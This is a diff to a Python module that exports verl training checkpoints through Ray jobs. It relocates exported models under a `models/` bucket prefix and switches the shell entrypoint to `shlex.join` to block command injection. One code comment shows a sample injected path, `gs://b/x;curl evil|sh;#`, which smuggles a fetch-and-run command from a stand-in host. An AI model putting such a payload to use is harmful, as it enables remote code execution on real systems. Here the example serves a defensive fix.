@@ -10,7 +10,7 @@ renamed to `<target>` at the end, so a reader of the bucket never sees half a mo
 Runs on CPU: merging needs the model's full fp32 weights in memory (about 4 bytes per parameter, twice while
 saving), not a GPU. Stdlib only at import time: it is shipped into the cluster.
 
-    python -m workloads.export_model --checkpoint-dir /data/verl/checkpoints/<run> --target-dir /data/<run>/model
+    python -m workloads.export_model --checkpoint-dir /data/verl/checkpoints/<run> --target-dir /data/models/<run>/model
 """
 
 from __future__ import annotations
@@ -21,6 +21,7 @@ import hashlib
 import io
 import json
 import os
+import shlex
 import shutil
 import subprocess
 import sys
@@ -127,10 +128,14 @@ MOUNT_PREFIX = "/data"
 """Where every Ray pod mounts the bucket (domain.bucket.MOUNT_PATH; workloads import no domain)."""
 
 
+MODELS_DIR = "models"
+"""Where exported models go under the bucket, one folder per run: a prefix the Ray pods may write (domain.bucket)."""
+
+
 def model_path(run_id: str, step: int | None = None) -> str:
-    """The model's folder under the bucket: `<run>/model` for the run's final model, `<run>/model-step-<N>` for
-    an export of step N, so an older step never replaces the final model."""
-    return f"{run_id}/model" if step is None else f"{run_id}/model-step-{step}"
+    """The model's folder under the bucket: `models/<run>/model` for the run's final model,
+    `models/<run>/model-step-<N>` for an export of step N, so an older step never replaces the final model."""
+    return f"{MODELS_DIR}/{run_id}/model" if step is None else f"{MODELS_DIR}/{run_id}/model-step-{step}"
 
 
 SUBMISSION_PREFIX = "verl-export-"
@@ -155,7 +160,9 @@ def submission(*, run_id: str, checkpoint_dir: str, step: int | None, working_di
     if verl_dir:
         args += ["--verl-dir", verl_dir]
     kwargs: dict = {
-        "entrypoint": " ".join(args),
+        # Ray runs the entrypoint with a shell: each argument quoted, so a path from an outputs file
+        # (`gs://b/x;curl evil|sh;#`) stays a path.
+        "entrypoint": shlex.join(args),
         "submission_id": f"{SUBMISSION_PREFIX}{run_id}-{'final' if step is None else f'step-{step}'}",
         "runtime_env": {"working_dir": working_dir},
         "metadata": {"verl_gke_export": target},
